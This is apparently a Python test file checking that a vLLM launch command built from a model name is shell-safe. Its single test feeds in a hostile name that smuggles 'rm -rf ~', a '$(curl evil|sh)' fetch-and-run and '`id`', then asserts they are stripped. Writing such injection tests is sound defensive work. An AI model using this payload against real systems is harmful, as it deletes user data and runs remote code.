"""How to run a plan: the launch command (launch.py)."""

from __future__ import annotations

from app.engine import Workload, estimate, model_spec_from_hf_config

from .shapes import FOUR_4090, LLAMA_8B


def test_launch_command_is_shell_safe_whatever_the_model_name():
    hostile = model_spec_from_hf_config(
        LLAMA_8B,
        name="x; rm -rf ~ $(curl evil|sh) `id` 'q'",
    )
    e = estimate(FOUR_4090, hostile, Workload(precision="bf16"))
    command = e.plan.launch_command
    assert command.startswith("vllm serve x-rm-")
    assert not any(c in command for c in ";$`'\"|()~&<>")
